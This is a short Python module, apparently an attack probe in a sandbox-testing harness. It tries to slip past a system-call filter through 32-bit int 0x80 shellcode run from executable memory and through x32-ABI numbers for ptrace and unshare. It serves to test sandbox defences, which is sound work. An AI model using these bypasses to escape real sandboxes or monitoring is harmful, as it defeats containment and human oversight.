"""Make calls by the numbers of 32-bit x86 and of x32, which a filter may have forgotten."""

import ctypes
import mmap
import os
import platform
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from gateway.shadow.sandbox.attacks.ways import Ways

# push rbx; mov ebx/ecx/edx/eax; int 0x80; pop rbx; ret
SOCKET = "53 bb02000000 b901000000 ba00000000 b867010000 cd80 5b c3"
GETPID = "b814000000 cd80 c3"
X32 = 0x40000000


def attack(ways: "Ways") -> None:
    """On other processors there is no such thing, and nothing is tried."""
    if platform.machine() != "x86_64":
        ways.report({"way": "none", "refused": "not on this processor"})
        return

    @ways.attempt
    def process_number_by_32_bits() -> object:
        return executed(GETPID) == os.getpid()

    @ways.attempt
    def socket_by_32_bits() -> object:
        return executed(SOCKET) >= 0

    @ways.attempt
    def process_number_by_x32() -> object:
        return numbered(X32 | 39)

    @ways.attempt
    def trace_by_x32() -> object:
        return numbered(X32 | 521, 0, 0, 0, 0) == 0

    @ways.attempt
    def unshare_by_x32() -> object:
        return numbered(X32 | 272, 0x10000000) == 0


def numbered(number: int, *arguments: int) -> int:
    """A call by its number. Raises OSError."""
    libc = ctypes.CDLL(None, use_errno=True)
    result: int = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(each) for each in arguments))
    if result == -1:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return result


def executed(code: str) -> int:
    """The result of machine code. Raises OSError for what the kernel answers."""
    memory = mmap.mmap(
        -1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    )
    memory.write(bytes.fromhex(code))
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    result: int = function()
    if -4096 < result < 0:
        raise OSError(-result, os.strerror(-result))
    return result
